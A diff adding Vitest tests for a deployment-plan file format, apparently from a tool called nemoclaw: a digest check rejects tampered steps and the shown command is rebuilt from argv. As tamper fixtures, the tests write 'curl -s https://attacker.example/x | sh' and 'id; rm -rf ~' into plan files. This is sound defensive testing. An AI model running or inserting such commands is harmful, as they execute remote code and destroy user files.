@@ -2,7 +2,7 @@ import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { beforeEach, describe, expect, it } from "vitest";
-import { PlanFileError, planProblems, readPlanFile, writePlanFile } from "../../../src/report/plan-file.js";
+import { isPlanFile, PlanFileError, planDigest, planProblems, readPlanFile, writePlanFile } from "../../../src/report/plan-file.js";
 import type { Plan } from "../../../src/plan/types.js";
 import { choose, converged, liveSandbox, known, planOf, safeGuards } from "../plan/builders.js";
 
@@ -82,6 +82,54 @@ describe("plan files", () => {
       "/hosts/0/steps/1: depends on restore:assistant, which is not an earlier step of spark-01",
       "/hosts/0/steps/2: fact openshell has no fingerprint",
     ]);
+  });
+
+  it("refuse a plan whose steps were edited after plan -o wrote it, naming the digest", () => {
+    const path = join(dir, "plan.json");
+    writePlanFile(path, samplePlan());
+    const saved = JSON.parse(readFileSync(path, "utf8")) as Plan & { planDigest: string };
+    expect(saved.planDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
+    const command = saved.hosts[0]!.steps.find((step) => step.commands.length > 0)!.commands[0]!;
+    // The argv changes, the display (what the live view and journal would show) does not.
+    command.argv = ["sh", "-c", "curl -s https://attacker.example/x | sh"];
+    writeFileSync(path, JSON.stringify(saved, null, 2));
+    expectPlanFileError(path, /does not match its planDigest: the plan was changed after `nemoclaw plan -o` wrote it/);
+  });
+
+  it("show and journal the command that runs: display is derived from argv again, never read", () => {
+    const path = join(dir, "plan.json");
+    const plan = samplePlan();
+    const step = plan.hosts[0]!.steps.find((candidate) => candidate.commands.length > 0)!;
+    const original = step.commands[0]!.display;
+    step.commands[0] = { ...step.commands[0]!, argv: ["sh", "-c", "id; rm -rf ~"] };
+    // Even with the digest made over the edited file, the stale display is not what is shown.
+    writeFileSync(path, JSON.stringify({ ...plan, planDigest: planDigest(plan) }));
+    const read = readPlanFile(path).hosts[0]!.steps.find((candidate) => candidate.id === step.id)!;
+    expect(read.commands[0]!.display).toBe("sh -c 'id; rm -rf ~'");
+    expect(read.commands[0]!.display).not.toBe(original);
+  });
+
+  it("refuse a plan without a digest, and tell a broken plan file from a fleet file", () => {
+    const plan = samplePlan();
+    const bare = join(dir, "bare.json");
+    writeFileSync(bare, JSON.stringify(plan));
+    expectPlanFileError(bare, /has no planDigest: only a plan saved with `nemoclaw plan -o` can be applied/);
+
+    const full = join(dir, "full.json");
+    writePlanFile(full, plan);
+    const cut = join(dir, "cut.json");
+    writeFileSync(cut, readFileSync(full, "utf8").slice(0, 300));
+    expect(isPlanFile(cut)).toBe(true);
+    expectPlanFileError(cut, /cut\.json: not a usable plan file:\n {2}is not JSON \(damaged or cut short\?\)/);
+    const nameless = join(dir, "nameless.json");
+    writeFileSync(nameless, "{ \"formatVersion\": 1, ");
+    expect(isPlanFile(nameless)).toBe(true);
+    const jsonFleet = join(dir, "fleet.json");
+    writeFileSync(jsonFleet, '{ "apiVersion": "nemoclaw.dev/v1", "kind": "Fleet" }');
+    expect(isPlanFile(jsonFleet)).toBe(false);
+    const yamlFleet = join(dir, "fleet.yaml");
+    writeFileSync(yamlFleet, "apiVersion: nemoclaw.dev/v1\nkind: Fleet\n");
+    expect(isPlanFile(yamlFleet)).toBe(false);
   });
 
   it("never contain a secret value, only its reference", () => {
